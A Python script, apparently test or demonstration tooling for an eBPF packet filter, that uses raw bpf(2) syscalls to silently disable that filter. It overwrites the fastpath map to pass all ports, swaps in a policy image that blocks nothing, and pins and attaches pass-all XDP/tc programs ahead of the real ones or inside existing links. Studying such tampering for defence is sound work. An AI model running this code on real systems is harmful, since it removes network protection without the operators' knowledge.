#!/usr/bin/env python3
"""tamper.py: what somebody with root could do to the filter behind its back, by bpf(2) alone.

tamper.py fastpath DIR        every port of the fast path passes
tamper.py image DIR           a copy of the active policy, in its place, that closes nothing
tamper.py program TYPE PATH   pins a program that passes all: xdp or tc
tamper.py front IFACE PATH    attaches the pinned program at tcx, before all others, and pins the
                              link at PATH-link
tamper.py replace LINK PATH   puts the pinned program into the pinned link
"""
import ctypes
import mmap
import os
import platform
import socket
import struct
import sys

SYS_BPF = {"x86_64": 321, "aarch64": 280}[platform.machine()]
MAP_CREATE, LOOKUP, UPDATE, PROG_LOAD, PIN, GET = 0, 1, 2, 5, 6, 7
MAP_FD_BY_ID, LINK_CREATE, LINK_UPDATE = 14, 28, 29
libc = ctypes.CDLL(None, use_errno=True)


def bpf(command, attributes):
    buffer = ctypes.create_string_buffer(attributes.ljust(128, b"\0"), 128)
    result = libc.syscall(SYS_BPF, command, buffer, 128)
    if result < 0:
        error = ctypes.get_errno()
        sys.exit(f"bpf({command}): {os.strerror(error)}")
    return result


def pointer(buffer):
    return ctypes.addressof(buffer)


def get(path):
    name = ctypes.create_string_buffer(path.encode())
    return bpf(GET, struct.pack("QII", pointer(name), 0, 0))


def pin(fd, path):
    name = ctypes.create_string_buffer(path.encode())
    bpf(PIN, struct.pack("QII", pointer(name), fd, 0))


def element(command, fd, key, value):
    key = ctypes.create_string_buffer(struct.pack("I", key), 4)
    bpf(command, struct.pack("IIQQQ", fd, 0, pointer(key), pointer(value), 0))


# struct fastpath of include/fastpath_table.h: the entries of IPv4 and IPv6, TCP and UDP.
FASTPATH_ENTRIES = 8 + 1808 + 24 + 8
ENTRY = 2 << 30 | 9 << 4 | 1  # pass, counted as `allowed`, valid


def fastpath(directory):
    fd = get(directory + "/maps/fastpath")
    memory = mmap.mmap(fd, FASTPATH_ENTRIES + 4 * 65536 * 4)
    memory[FASTPATH_ENTRIES:] = struct.pack("I", ENTRY) * (4 * 65536)


SMALL = 1 << 20


def open_image(value):
    endpoints_used, = struct.unpack_from("I", value, 56)
    endpoints, = struct.unpack_from("I", value, 72)
    rules, = struct.unpack_from("I", value, 88)
    for i in range(endpoints_used):
        for entry in 16, 32:  # no verdict is precomputed
            struct.pack_into("H", value, endpoints + 64 * i + entry + 14, 0)
    for rule in range(3):  # those of the defaults come first
        if value[rules + 16 * rule] == b"\x06":
            value[rules + 16 * rule] = b"\x05"


def image(directory):
    slots = get(directory + "/maps/policy_small")
    number = ctypes.create_string_buffer(4)
    element(LOOKUP, slots, 0, number)
    old = bpf(MAP_FD_BY_ID, number.raw)
    value = ctypes.create_string_buffer(SMALL)
    element(LOOKUP, old, 0, value)
    open_image(value)
    new = bpf(MAP_CREATE, struct.pack("IIIII", 2, 4, SMALL, 1, 1 << 7 | 1 << 10))
    element(UPDATE, new, 0, value)
    element(UPDATE, slots, 0, ctypes.create_string_buffer(struct.pack("I", new), 4))


def program(kind, path):
    number, verdict = {"xdp": (6, 2), "tc": (3, 0)}[kind]
    code = ctypes.create_string_buffer(struct.pack("BBhiBBhi", 0xB7, 0, 0, verdict, 0x95, 0, 0, 0), 16)
    name = ctypes.create_string_buffer(b"GPL")
    fd = bpf(PROG_LOAD, struct.pack("IIQQIIQII16s", number, 2, pointer(code), pointer(name), 0, 0, 0, 0,
                                    # what attaches to one link has the same expectations as who was there
                                    0, b"somebody_else")
             if kind == "tc" else
             struct.pack("IIQQIIQII16sII", number, 2, pointer(code), pointer(name), 0, 0, 0, 0, 1 << 5,
                         b"somebody_else", 0, 37))
    pin(fd, path)


def front(interface, path):
    index = socket.if_nametoindex(interface)
    link = bpf(LINK_CREATE, struct.pack("IIII", get(path), index, 46, 1 << 3))
    pin(link, path + "-link")


def replace(link, path):
    bpf(LINK_UPDATE, struct.pack("IIII", get(link), get(path), 0, 0))


if __name__ == "__main__":
    commands = {"fastpath": fastpath, "image": image, "program": program, "front": front, "replace": replace}
    commands[sys.argv[1]](*sys.argv[2:])
